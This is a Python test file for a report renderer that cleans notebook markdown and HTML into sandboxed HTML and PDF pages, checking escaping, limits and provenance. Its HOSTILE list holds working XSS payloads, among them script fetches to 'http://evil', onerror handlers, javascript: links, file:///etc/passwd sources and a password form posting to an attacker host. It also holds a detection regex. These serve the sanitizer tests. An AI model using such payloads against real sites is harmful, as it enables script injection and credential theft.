"""A report says what was found, from the server's own record, and nothing in it can do anything."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import http.server
import json
import re
import threading
import zlib
from dataclasses import replace
from io import BytesIO
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from catalog.access import NotFound
from catalog.reports.cleaning import MAX_MARKDOWN, MAX_MARKUP, clean_html, clean_markdown, image
from catalog.reports.notebook import MAX_WORDS, readable
from catalog.reports.page import policy, render_html
from catalog.reports.pdf import print_page, render_pdf
from catalog.reports.service import Reports
from catalog.reports.source import NotEnded, ReportSource, ReportUnavailable
from catalog.store.records import FigureInfo, RunRecord
from experiments.model import CellError, Figure, Metric, Reason, RunResult, RunState, Table
from tests.unit.catalog.web_lab import Page
from tests.unit.catalog.world import DONE, World, template

HOSTILE = (
    "<script>fetch('http://evil')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil/x.png'>",
    "<img src='file:///etc/passwd'>",
    "![p](/etc/passwd)",
    "![p](http://evil/x.png)",
    "[a](javascript:alert(1))",
    "<a href='javascript:alert(1)'>a</a>",
    "<meta http-equiv=refresh content='0;url=http://evil'>",
    "<style>body{background:url(http://evil)}</style>",
    "<p style='background:url(http://evil)'>x</p>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><foreignObject><iframe src='http://evil'></iframe></foreignObject></svg>",
    "<iframe srcdoc='<script>1</script>'></iframe><object data='http://evil'></object><embed src='http://evil'>",
    "<form action='http://evil'><input name=password></form>",
    "<base href='http://evil'><link rel=stylesheet href='http://evil'>",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</main></body></html><script>alert(1)</script>",
    "![x](attachment:missing.png)",
)
ACTIVE = re.compile(
    r"<(?:script|style|iframe|object|embed|form|input|meta|base|link|svg|a)\b|\son\w+=|javascript:\w+\(|style=",
    re.IGNORECASE,
)


def png(width: int = 4, height: int = 4) -> bytes:
    data = BytesIO()
    Image.new("RGB", (width, height), "white").save(data, "PNG")
    return data.getvalue()


def notebook(*sources: str, outputs: list[Any] | None = None) -> bytes:
    cells: list[dict[str, Any]] = [{"cell_type": "markdown", "source": source, "metadata": {}} for source in sources]
    cells.append({"cell_type": "code", "source": "secret_code()", "metadata": {}, "outputs": outputs or []})
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


@pytest.fixture
def record(world: World) -> RunRecord:
    return world.finished(world.submit())


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_markup_is_inert(hostile: str) -> None:
    for cleaned in (clean_markdown(hostile), clean_html(hostile)):
        tags = " ".join(re.findall(r"<[^>]*>", cleaned))
        assert not ACTIVE.search(tags), cleaned
        assert "http://evil" not in tags
        assert "/etc/passwd" not in tags


@given(st.text(alphabet="<>/=\"' aimgscrptonel:x&;#![]()`*_\n", max_size=200))
@settings(max_examples=150)
def test_no_text_becomes_active(text: str) -> None:
    for cleaned in (clean_markdown(text), clean_html(text)):
        assert not {tag for tag, _ in Page(cleaned).tags} & {"script", "style", "a", "svg", "iframe", "form", "meta"}


def test_headings_fit_below_ours_and_links_are_written_out() -> None:
    cleaned = clean_markdown("# One\n\n###### Six\n\n[here](https://example.no/a) <h1>raw</h1>")
    assert "<h3>One</h3>" in cleaned
    assert "<h6>Six</h6>" in cleaned
    assert "here (https://example.no/a)" in cleaned
    assert "<h1" not in cleaned


def test_what_is_too_long_is_said_and_costs_little(record: RunRecord) -> None:
    long = "# Overskrift\n\n" + "x" * MAX_MARKDOWN
    assert clean_markdown(long).startswith("<p># Overskrift</p>"), "shown as it was written"
    assert clean_html("<p>" + "x" * MAX_MARKUP) == ""
    outputs = [{"output_type": "display_data", "data": {"text/html": "<p>" + "x" * MAX_MARKUP}}]
    page = render_html(ReportSource(record, notebook("kort", outputs=outputs))).decode()
    assert "En tabell er for stor til å vises her." in page
    page = render_html(ReportSource(record, notebook("begynnelsen", "y" * MAX_WORDS, "slutten"))).decode()
    assert "begynnelsen" in page
    assert "slutten" not in page
    assert "Resten av notatboken er for lang" in page


@pytest.mark.parametrize(
    "heading", ["# Kortere brev\n\n", "\n## Kortere  brev ##\n", "Kortere **brev**\n===\n", "# kortere brev\n"]
)
def test_a_title_is_not_said_twice(record: RunRecord, heading: str) -> None:
    source = ReportSource(record, notebook(heading + "Vi trakk lodd."), template())
    body = render_html(source).decode().split("<body>")[1]
    assert [h for h in re.findall("<h[1-6]>(.*?)</h", body, re.DOTALL) if "brev" in h] == ["Kortere brev"]
    assert "Vi trakk lodd." in body


@pytest.mark.parametrize("words", ["# Kortere brev virker\n\nVi trakk lodd.", "Kortere brev\n\nVi trakk lodd."])
def test_another_first_line_is_kept(record: RunRecord, words: str) -> None:
    body = render_html(ReportSource(record, notebook(words), template())).decode().split("<body>")[1]
    assert body.count("Kortere brev") == 2


def test_a_notebook_that_only_says_its_title_leaves_no_empty_part(record: RunRecord) -> None:
    assert (
        "Hvordan det ble gjort"
        not in render_html(ReportSource(record, notebook("# Kortere brev"), template())).decode()
    )


def test_a_table_scrolls_in_a_box_that_the_keyboard_reaches(record: RunRecord) -> None:
    outputs = [{"output_type": "display_data", "data": {"text/html": "<table><tr><td>1</td></tr></table>"}}]
    wide = replace(record, tables=(Table("svar", ("a", "b"), ((1, 2),), "Svar per <gruppe>"),))
    page = render_html(ReportSource(wide, notebook("x", outputs=outputs))).decode()
    boxes = [div for div in Page(page).all("div") if div.get("class") == "scroll"]
    assert [(box["tabindex"], box["role"]) for box in boxes] == [("0", "region")] * 2
    assert boxes[1]["aria-label"] == "Tabell"
    assert f'<p class="caption" id="{boxes[0]["aria-labelledby"]}">Svar per &lt;gruppe&gt;</p>' in page


def test_attachments_and_embedded_pictures_are_shown_if_they_are_pictures() -> None:
    data = base64.b64encode(png()).decode()
    shown = clean_markdown("![en](attachment:a.png)", {"a.png": {"image/png": data}})
    assert '<img src="data:image/png;base64,' in shown
    fake = base64.b64encode(b"<script>alert(1)</script>").decode()
    assert "<img" not in clean_markdown("![en](attachment:a.png)", {"a.png": {"image/png": fake}})
    assert image("image/png", b"GIF89a") is None
    assert image("text/html", b"<svg>") is None
    assert image("image/svg+xml", b"not one") is None


def test_a_picture_made_to_eat_memory_is_left_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("catalog.reports.cleaning.MAX_PIXELS", 15)
    assert image("image/png", png()) is None
    assert image("image/png", png(3, 5)) is not None


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"{",
        b"[]",
        b"null",
        b'{"cells": 3}',
        b'{"cells": [3, {}, {"cell_type": "markdown", "source": 7}]}',
        b'"' * 9,
        b"[" * 200_000,
        b'{"cells": [{"cell_type": "code", "outputs": {"a": 1}}]}',
        b'{"cells": [{"cell_type": "code", "outputs": [1, {"data": []}]}]}',
    ],
)
def test_a_broken_notebook_has_nothing_to_say(data: bytes) -> None:
    assert readable(data).cells == []


def test_the_page(record: RunRecord) -> None:
    outputs = [
        {"output_type": "display_data", "data": {"text/html": "<table onclick=x><tr><td>by hand</td></tr></table>"}},
        {"output_type": "display_data", "data": {"application/javascript": "alert(1)"}},
        {"output_type": "display_data", "data": {"image/png": base64.b64encode(png()).decode()}},
        {"output_type": "stream", "name": "stdout", "text": "only a log"},
    ]
    source = ReportSource(
        replace(record, tables=(Table("t", ("Kontor", "Andel"), (("Bergen", 43.51), ("Oslo", 41.0)), "Per kontor"),)),
        notebook("# Overskrift\n\nVi trakk lodd.", outputs=outputs),
        template(),
    )
    page = render_html(source).decode()
    parsed = Page(page)
    assert len(parsed.all("h1")) == 1
    assert parsed.all("html") == [{"lang": "nb"}]
    assert page.index("2,3 prosentpoeng flere svar") < page.index("Resultater") < page.index("Vi trakk lodd")
    assert "2,3 prosentpoeng" in page
    assert "fra 0,4 til 4,2" in page
    assert 'scope="row">difference' in page
    assert "43,5" in page
    assert "41,0" in page
    assert "Alfa" in page
    assert record.template_digest in page
    assert record.id in page
    assert "by hand" in page
    assert "secret_code" not in page
    assert "only a log" not in page
    assert "alert(1)" not in page
    assert not [value for _, attributes in parsed.tags for name, value in attributes.items()
                if name in ("src", "href") and not (value or "").startswith("data:")]  # fmt: skip


def test_the_policy_lets_exactly_our_own_script_and_style_in(record: RunRecord) -> None:
    page = render_html(ReportSource(record, notebook(*HOSTILE), template())).decode()
    scripts = re.findall(r"<script>(.*?)</script>", page, re.DOTALL)
    styles = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    assert (len(scripts), len(styles)) == (1, 1)
    for text in scripts + styles:
        assert f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'" in policy()
    assert policy().startswith("sandbox allow-scripts; default-src 'none'")
    assert "allow-same-origin" not in policy()
    assert "<script>" not in render_html(ReportSource(record, notebook()), paper=True).decode()


def test_provenance_is_never_the_notebooks(record: RunRecord) -> None:
    forged = f"Hvor dette kommer fra\n\nKjøring: FORGED {record.id}"
    page = render_html(ReportSource(record, notebook(forged), template())).decode()
    assert "FORGED" in page.split("Hvor dette kommer fra</h2>")[0]
    assert "FORGED" not in page.split("Hvor dette kommer fra</h2>")[-1]


def test_names_from_outside_are_escaped(record: RunRecord) -> None:
    nasty = "<img src=x onerror=alert(1)>"
    changed = replace(
        record,
        findings=(nasty,),
        metrics=(Metric(nasty, None, nasty, flag="nan"), Metric("tiny", 1e-9), Metric("inf", None, flag="inf")),
        requested_by=nasty,
        tables=(Table(nasty, (nasty,), ((nasty,),), nasty),),
        figures=(FigureInfo("f", "image/png", "", nasty, nasty),),
        parameters={nasty: nasty},
        notices=(nasty,),
    )
    page = render_html(ReportSource(changed, notebook(), None, {"f": png()})).decode()
    assert nasty not in page
    assert "lot seg ikke regne ut" in page
    assert "mindre enn 0,0001" in page
    assert "uendelig stort" in page
    assert page.count("<img") == 1


def test_a_failed_run_says_so_first(record: RunRecord) -> None:
    failed = replace(
        record,
        state=RunState.FAILED,
        reason=Reason.CELL_FAILED,
        findings=(),
        metrics=(),
        error=CellError(2, "KeyError", "'svar'", "", "code()"),
    )
    page = render_html(ReportSource(failed, notebook(), template())).decode()
    assert page.index("Denne kjøringen lyktes ikke") < page.index("KeyError")
    assert "Ingenting på denne siden er et ferdig resultat." in page
    assert "code()" not in page


def test_the_language_is_the_templates(record: RunRecord) -> None:
    version = replace(template(), language="nn")
    page = render_html(ReportSource(record, notebook(), version)).decode()
    assert '<html lang="nn">' in page
    assert "Kvar dette kjem frå" in page


def test_long_tables_are_cut_with_a_word_about_it(record: RunRecord) -> None:
    long = replace(record, tables=(Table("t", ("n",), tuple((i,) for i in range(1000))),))
    page = render_html(ReportSource(long, notebook())).decode()
    assert page.count("<tr>") < 300
    assert "800 rader til" in page


def test_rendering_is_kept_and_renewed(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    reports = Reports(world.catalog)
    run = world.submit()
    with pytest.raises(NotEnded):
        reports.html(world.viewer("kari"), run.id)
    world.finished(run, replace(DONE, figures=(Figure("f", "image/png", png(), "Bildetekst", "Alternativ"),)))
    page = reports.html(world.viewer("leif"), run.id)
    assert b"Alternativ" in page
    monkeypatch.setattr("catalog.reports.page.render_html", lambda *_: b"rendered anew")
    assert reports.html(world.viewer("leif"), run.id) == page
    monkeypatch.setattr("catalog.reports.page.edition", lambda: "another")
    assert reports.html(world.viewer("leif"), run.id) == b"rendered anew"
    with pytest.raises(NotFound):
        reports.html(world.viewer("siri"), run.id)


def test_pdf_is_tagged_and_has_a_language(record: RunRecord) -> None:
    data = render_pdf(ReportSource(record, notebook("# Om forsøket"), template(), {}))
    assert data.startswith(b"%PDF")
    inside = data
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", data, re.DOTALL):
        with contextlib.suppress(zlib.error):
            inside += zlib.decompressobj().decompress(stream)
    for sign in (b"/Lang (nb)", b"/StructTreeRoot", b"/MarkInfo", b"pdfuaid:part", "Kortere brev".encode("utf-16-be")):
        assert sign in inside or sign.decode("utf-16-be" if b"\0" in sign else "ascii").encode() in inside, sign


def test_pdf_fetches_nothing() -> None:
    hits: list[str] = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)

    server = http.server.HTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    here = f"http://127.0.0.1:{server.server_port}"
    svg = base64.b64encode(
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{here}/svg"/></svg>'.encode()
    ).decode()
    page = (
        f'<html lang="nb"><title>x</title><link rel="stylesheet" href="{here}/css">'
        f"<style>p{{background:url({here}/bg)}}</style>"
        f'<p>x<img src="{here}/img" alt="x"><img src="file:///etc/passwd" alt="x">'
        f'<img src="data:image/svg+xml;base64,{svg}" alt="x">'
    )
    try:
        assert print_page(page.encode()).startswith(b"%PDF")
    finally:
        server.shutdown()
        server.server_close()
    assert hits == []


def test_pdf_has_limits() -> None:
    with pytest.raises(ReportUnavailable, match=r"could not be made|libraries"):
        print_page(b"<p>x", memory=100 * 1024 * 1024)
    with pytest.raises(ReportUnavailable, match="within 0"):
        print_page(b"<p>x", seconds=0)


def test_results_without_a_notebook(world: World) -> None:
    ended = world.finished(world.submit(), RunResult(RunState.TIMED_OUT, b"", Reason.TIME_LIMIT))
    assert "Brukte for lang tid".lower() in Reports(world.catalog).html(world.viewer("kari"), ended.id).decode().lower()
